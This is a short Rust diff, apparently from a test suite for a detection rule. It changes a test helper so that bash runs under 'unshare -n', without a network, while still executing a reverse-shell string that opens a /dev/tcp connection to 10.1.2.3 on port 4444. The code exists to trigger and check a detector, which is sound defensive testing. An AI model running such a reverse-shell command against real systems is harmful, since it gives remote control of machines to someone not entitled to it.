@@ -689,9 +689,12 @@ fn as_nobody(ctx: &Ctx) -> Res<Command> {
 // ---- exec ------------------------------------------------------------------
 
 fn revshell_terminal(c: &Ctx) -> Res<u32> {
-    let bash = tool("bash")?;
-    let script = "exec 3<>/dev/tcp/10.1.2.3/4444";
-    Ok(run(in_own_netns(c, "10.1.2.3", &bash)?.args(["-c", script]))?.pid)
+    // The rule is about the shell's arguments: bash runs straight from
+    // `unshare -n` (no wrapper whose arguments hold the same text), and its
+    // connect finds no route there.
+    let mut c = c.cmd(tool("unshare")?);
+    c.arg("-n").arg(tool("bash")?);
+    Ok(run(c.args(["-c", "exec 3<>/dev/tcp/10.1.2.3/4444"]))?.pid)
 }
 
 fn revshell_terminal_miss(c: &Ctx) -> Res<()> {
